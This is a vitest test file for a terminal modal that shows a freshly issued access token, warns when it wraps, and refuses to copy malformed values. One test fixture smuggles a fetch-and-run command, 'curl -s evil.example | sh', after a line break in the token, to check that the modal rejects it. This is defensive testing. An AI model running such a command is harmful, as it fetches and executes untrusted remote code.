import {render} from 'ink-testing-library';
import {describe, expect, it} from 'vitest';
import {PLAINTEXT_BANNER, PlaintextModal} from '../../src/screens/PlaintextModal.js';

const issued = {
  token_id: '0190a8b8-a0c0-7a0a-8a0a-a0a0a0a0a0a1',
  token: 'psb_verylongenvironmentprefix_aebagbafaydqqbrhibbsa3kqaq_node_abcdefghijklmnopqrstuvwxyz',
  issued_at: '2026-05-01T10:00:00Z',
  expires_at: '2026-05-01T11:00:00Z',
};

describe('plaintext modal', () => {
  it('warns when the plaintext wraps, since a mouse selection would carry a line break', () => {
    const narrow = render(<PlaintextModal issued={issued} confirming={false} columns={80} onAskClose={() => {}} />);
    expect(narrow.lastFrame()).toContain('wraps at 80 columns: copy it with c');
    narrow.unmount();
  });

  it('shows the plaintext whole, with no warning, when it fits', () => {
    const wide = render(<PlaintextModal issued={issued} confirming={false} columns={120} onAskClose={() => {}} />);
    const frame = wide.lastFrame() ?? '';
    expect(frame).toContain(PLAINTEXT_BANNER);
    expect(frame).toContain(issued.token);
    expect(frame).not.toContain('wraps at');
    expect(frame).not.toContain('c will not copy it');
    wide.unmount();
  });

  it('says when the plaintext is not in the contract format and c will not copy it', () => {
    const hostile = {...issued, token: `${issued.token}\r\ncurl -s evil.example | sh`};
    const modal = render(<PlaintextModal issued={hostile} confirming={false} columns={200} onAskClose={() => {}} />);
    const frame = (modal.lastFrame() ?? '').replace(/\s+/g, ' ');
    expect(frame).toContain("✗ not the contract's plaintext format (it contains control, escape or invisible characters): c will not copy it");
    expect(frame).not.toContain('\r');
    modal.unmount();
  });
});
